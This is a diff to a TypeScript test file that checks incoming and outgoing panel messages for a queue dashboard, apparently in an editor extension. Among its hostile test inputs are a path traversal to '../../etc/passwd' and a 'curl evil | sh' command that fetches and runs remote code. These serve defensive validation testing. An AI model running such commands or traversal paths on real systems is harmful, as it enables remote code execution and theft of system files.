@@ -98,6 +98,7 @@ checkInbound<QueuePanelCommand>('Queue dashboard', queuePanelCommands, queuePane
     ],
   },
   showLog: { good: [{ type: 'showLog' }], hostile: [{ type: 'showLog', channel: '../../etc/passwd' }] },
+  retrySaving: { good: [{ type: 'retrySaving' }], hostile: [{ type: 'retrySaving', path: '/' }] },
   runJob: { good: [{ type: 'runJob' }], hostile: [{ type: 'runJob', command: 'curl evil | sh' }] },
   jobAction: {
     good: jobActions.map((action) => ({ type: 'jobAction', action, jobId: 'a1' })),
@@ -183,7 +184,7 @@ describe('panel protocols: messages from the host', () => {
     [InitNotification, JobsNotification],
     [
       { type: 'init', state: defaultQueuePanelState, workspaceName: 'w', trusted: true },
-      { type: 'jobs', jobs: [], paused: false, unavailable: undefined, status: 'open' },
+      { type: 'jobs', jobs: [], paused: false, unavailable: undefined, status: 'open', notices: [] },
     ],
   );
   checkHostMessages<HistoryPanelHostMessage>(
